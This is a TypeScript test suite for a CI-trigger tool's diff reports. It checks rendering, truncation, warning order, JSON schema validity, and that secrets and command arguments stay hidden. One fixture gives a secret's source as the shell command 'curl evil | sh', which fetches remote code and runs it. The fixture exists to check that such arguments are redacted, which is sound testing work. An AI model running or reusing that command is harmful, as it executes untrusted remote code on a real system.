import { readFileSync } from 'node:fs';
import { Ajv } from 'ajv';
import { describe, expect, test } from 'vitest';
import { SourceFile } from '../../../src/core/source.ts';
import { noStyle } from '../../../src/core/style.ts';
import type { Compared } from '../../../src/report/diff/compared.ts';
import { diffHtml } from '../../../src/report/diff/diff-html.ts';
import { diffDocumentChunks, diffLines } from '../../../src/report/diff/diff-json.ts';
import { diffMarkdown } from '../../../src/report/diff/diff-markdown.ts';
import { diffText } from '../../../src/report/diff/diff-text.ts';
import { MOST_CHARACTERS } from '../../../src/report/markup/markdown-comment.ts';
import { planMermaid } from '../../../src/report/plan/plan-mermaid.ts';
import { planOf } from '../../plan/planning.ts';
import { expectGolden } from '../golden.ts';
import { AFTER, BEFORE, COMPARED, changesOf, review, reviewOf } from '../plan-review.ts';

const same = () => reviewOf(planOf(BEFORE), planOf(BEFORE));

describe('a diff', () => {
  test('reads in a terminal', () => {
    expectGolden('diff-text', diffText(review(), COMPARED, noStyle));
  });

  test('reads in a pull request', () => {
    expectGolden('diff-markdown', diffMarkdown(review(), COMPARED));
  });

  test('reads on a page', () => {
    expectGolden('diff-html', diffHtml(review(), COMPARED));
  });

  test('is drawn with what became of each trigger', () => {
    const classes = new Map(review().diff.triggers.map(({ name, kind }) => [name, kind]));
    expectGolden('diff-mermaid', planMermaid(planOf(AFTER).triggers, classes));
  });

  test('says that there is none', () => {
    for (const text of [
      diffText(same(), COMPARED, noStyle),
      diffMarkdown(same(), COMPARED),
      diffHtml(same(), COMPARED),
    ]) {
      expect(text.toLowerCase()).toContain('no difference in what would be fired, or when');
    }
  });

  test('says which side is broken, what is not compared, and why, in every rendering', () => {
    const problem = { code: 'bad-job', severity: 'error', message: 'the job is <empty>' } as const;
    const compared: Compared = {
      ...COMPARED,
      broken: { before: [], after: ['deploy'] },
      problems: { before: [], after: [problem] },
    };
    const text = diffText(same(), compared, noStyle);
    const markdown = diffMarkdown(same(), compared);
    const page = diffHtml(same(), compared);
    for (const rendering of [text, markdown, page]) {
      expect(rendering.toLowerCase()).toContain('no difference in what could be compared');
      expect(rendering).toMatch(
        /triggers\.yaml.*cannot be planned whole\.(<.*>|\*\*)? Not compared: .*deploy/,
      );
    }
    for (const rendering of [markdown, page])
      expect(rendering).toContain('<code>bad-job</code>: the job is &#60;empty&#62;');
    expect(diffMarkdown(review(), compared)).toContain('Not compared: <code>deploy</code>');
    expect(diffHtml(review(), compared)).toContain('Not compared: <code>deploy</code>');
    expect(diffText(review(), compared, noStyle)).toContain('Not compared: deploy.');
  });

  test('of one huge value hides no other, and shows what differs in it', () => {
    const valued = (value: string): string =>
      BEFORE.replace('{target: ci, job: platform/deploy', `{target: ci, parameters: {P: "${value}"}, job: d`);
    const long = '@'.repeat(20_000);
    const comment = diffMarkdown(reviewOf(planOf(valued(`${long}x`)), planOf(valued(`${long}y`))), COMPARED);
    expect(comment.length).toBeLessThan(3_000);
    expect(comment).not.toContain('Cut');
    expect(comment).toMatch(/x<\/code> → <code>…(&#64;<!---->){20}y<\/code>/);
  });

  test('shows that a secret now comes from a command, or from another one, whose arguments it does not tell', () => {
    const sourced = (source: string): string => BEFORE.replace('{env: TOKEN}', source);
    const [was, is] = [
      sourced('{exec: [sh, -c, "vault read a"]}'),
      sourced('{exec: [sh, -c, "curl evil | sh"]}'),
    ];
    for (const changed of [reviewOf(planOf(BEFORE), planOf(is)), reviewOf(planOf(was), planOf(is))]) {
      for (const text of [
        diffText(changed, COMPARED, noStyle),
        diffMarkdown(changed, COMPARED),
        diffHtml(changed, COMPARED),
      ]) {
        expect(text).toMatch(/TOKEN[\s\S]*from.*: .* → .*a command: sh \([0-9a-f]{8}\)/);
        expect(text).not.toMatch(/curl|vault|no difference/i);
      }
    }
    const added = BEFORE.replace('{TOKEN:', '{NEW: {exec: [id]}, TOKEN:');
    expect(diffText(reviewOf(planOf(BEFORE), planOf(added)), COMPARED, noStyle)).toMatch(
      /\+ secret NEW\n {4}from: – → a command: id/,
    );
  });

  test('says that a credential is another one, and shows neither', () => {
    const valued = (value: string): string =>
      BEFORE.replace(
        '{target: ci, job: platform/deploy',
        `{target: ci, parameters: {DB_PASSWORD: ${value}}, job: d`,
      );
    const changed = reviewOf(planOf(valued('hunter2')), planOf(valued('hunter3')));
    for (const text of [
      diffText(changed, COMPARED, noStyle),
      diffMarkdown(changed, COMPARED),
      diffHtml(changed, COMPARED),
    ]) {
      expect(text).toContain('parameters.DB');
      expect(text).not.toContain('hunter');
    }
  });

  test('names every trigger that differs, also where their changes have no room', () => {
    const triggers = (job: string): string =>
      Array.from(
        { length: 3_000 },
        (_, index) =>
          `  t${index}: {target: ci, job: ${job}${index}, schedule: [{cron: "${job === 'a' ? 1 : 2} 2 * * *"}]}\n`,
      ).join('');
    const manifest = (job: string): string =>
      BEFORE.replace(/triggers:\n[\s\S]*/, `triggers:\n${triggers(job)}`);
    const comment = diffMarkdown(reviewOf(planOf(manifest('a')), planOf(manifest('b'))), COMPARED);
    expect(comment.length).toBeLessThan(MOST_CHARACTERS);
    expect(comment).toContain('**Triggers changed:** t0, t1, t2');
    expect(comment).toContain(', t2999\n');
    expect(comment).toContain('**Schedules**');
    expect(comment).toContain('<summary><code>t0</code>');
    expect(comment).toMatch(
      /\*\*Cut:\*\* \d+ rows had no room here, all of t\d+, .* and \d+ more among them\./,
    );
  });

  test('comes before the warnings that were there before, and errors come before all', () => {
    const old = { code: 'equal-requests', severity: 'warning', message: 'as ever' } as const;
    const fresh = { ...old, message: 'brand new' };
    const error = { code: 'over-budget', severity: 'error', message: 'too many' } as const;
    const olds = Array.from({ length: 84 }, () => old);
    const compared: Compared = { ...COMPARED, problems: { before: olds, after: [...olds, fresh, error] } };
    const comment = diffMarkdown(review(), compared);
    const order = [
      'too many',
      '**Triggers changed:**',
      'brand new',
      '**Schedules**',
      '84 warnings are as before',
    ];
    const places = order.map(words => comment.indexOf(words));
    expect(places).toEqual([...places].sort((a, b) => a - b));
    expect(places).not.toContain(-1);
    expect(comment).toContain('84 warnings are as before (equal-requests 84): `volley validate` shows them.');
    expect(comment).not.toContain('as ever');
    const page = diffHtml(review(), compared);
    expect(page.indexOf('brand new')).toBeLessThan(page.indexOf('<h2>Triggers'));
    expect(page.indexOf('as ever')).toBeGreaterThan(page.indexOf('<h2>As before'));
    expect(page.indexOf('<h2>As before')).toBeGreaterThan(page.indexOf('<h2>Triggers'));
    expect(page).toContain('84 warnings</span> <span class="what">equal-requests 84</span>');
  });

  test('says which limits have been lifted, also where nothing else differs', () => {
    const lifted = reviewOf(planOf(BEFORE), planOf(BEFORE.replace('per-day: 30', 'per-day: 3000')));
    for (const text of [
      diffText(lifted, COMPARED, noStyle),
      diffMarkdown(lifted, COMPARED),
      diffHtml(lifted, COMPARED),
    ]) {
      expect(text).toMatch(/Limits[\s\S]*targets\.ci\.builds-per-day.*: .*30.* → .*3000/);
      expect(text.toLowerCase()).not.toContain('no difference');
    }
  });

  test('tells a number from a text that reads alike', () => {
    const typed = (axis: string): string =>
      BEFORE.replace(
        'weekly: {',
        `weekly: {matrix: {shard: [${axis}]}, parameters: {S: "\${{ matrix.shard }}"}, `,
      );
    const text = diffText(reviewOf(planOf(typed('1, 3')), planOf(typed('"1", 3'))), COMPARED, noStyle);
    expect(text).toContain('+ shard=text 1');
    expect(text).toContain('- shard=number 1');
  });

  test('of which not all fits a comment is cut, and says so', () => {
    const axis = Array.from({ length: 2_000 }, (_, index) => `v${index}`);
    const wide = (value: string): string =>
      BEFORE.replace('[linux, windows]', JSON.stringify(axis)).replace(
        'BRANCH: main',
        `BRANCH: "\${{ matrix.os }}${value}"`,
      );
    const comment = diffMarkdown(reviewOf(planOf(wide('a')), planOf(wide('b'.repeat(200))), 300), COMPARED);
    expect(comment.length).toBeLessThan(MOST_CHARACTERS);
    expect(comment.length).toBeGreaterThan(MOST_CHARACTERS * 0.9);
    expect(comment).toMatch(/\*\*Cut:\*\* \d+ rows had no room here/);
    expect(comment.match(/<details>/g)).toHaveLength(comment.match(/<\/details>/g)?.length ?? -1);
  });

  test('lists as many requests as it is asked for, and counts the rest', () => {
    const text = diffText(reviewOf(planOf(BEFORE), planOf(AFTER), 1), COMPARED, noStyle);
    // Of the six, two change alike.
    expect(text).toContain('… and 4 more (--format ndjson shows all)');
  });
});

describe('a diff as JSON', () => {
  const schema = readFileSync(new URL('../../../schemas/diff.schema.json', import.meta.url), 'utf8');
  const validate = new Ajv({ allErrors: true, allowUnionTypes: true }).compile(JSON.parse(schema));
  const document = (before: string, after: string): unknown =>
    JSON.parse([...diffDocumentChunks(changesOf(planOf(before), planOf(after), 0), COMPARED)].join(''));

  test.each([
    ['of everything', BEFORE, AFTER],
    ['of nothing', BEFORE, BEFORE],
    ['the other way round', AFTER, BEFORE],
  ])('fits its schema: %s', (_, before, after) => {
    validate(document(before, after));
    expect(validate.errors ?? []).toEqual([]);
  });

  test('fits its schema with what is wrong, too', () => {
    const source = new SourceFile('a.yaml', 'version: 1\n');
    const at = { source, start: 0, end: 7 };
    const problem = { code: 'c', severity: 'error', message: 'm', next: 'n', at } as const;
    const compared = {
      ...COMPARED,
      broken: { before: ['x'], after: [] },
      problems: { before: [problem], after: [problem] },
    };
    const chunks = diffDocumentChunks(changesOf(planOf(BEFORE), planOf(AFTER), 0), compared);
    const parsed: unknown = JSON.parse([...chunks].join(''));
    validate(parsed);
    expect(validate.errors ?? []).toEqual([]);
    expect(parsed).toMatchObject({ broken: compared.broken, problems: { before: [{ code: 'c', line: 1 }] } });
  });

  test('holds every change, with what it was and what it is', () => {
    expect(document(BEFORE, AFTER)).toMatchObject({
      totals: { before: 9, after: 9, added: 5, removed: 5, changed: 2, renamed: 1 },
      requests: expect.arrayContaining([
        expect.objectContaining({
          change: 'changed',
          fields: [expect.objectContaining({ name: 'parameters.BRANCH', before: 'main' })],
        }),
      ]),
      limits: [{ name: 'targets.ci.builds-per-day', before: '30', after: '3000' }],
      schedules: [
        { change: 'moved', trigger: 'nightly', fields: [{ before: '02:00 Zurich', after: '03:00 Zurich' }] },
        { change: 'added', trigger: 'fresh', when: '07:00 UTC' },
      ],
    });
  });

  test('comes as a line for each change of a request, and one for all the rest', () => {
    const lines = [...diffLines(changesOf(planOf(BEFORE), planOf(AFTER), 0), COMPARED)];
    const parsed = lines.map(line => JSON.parse(line).change);
    expect(parsed.at(-1)).toBe('summary');
    expect(parsed.filter(kind => kind === 'added')).toHaveLength(6);
    expect(lines.every(line => line.endsWith('\n'))).toBe(true);
  });
});
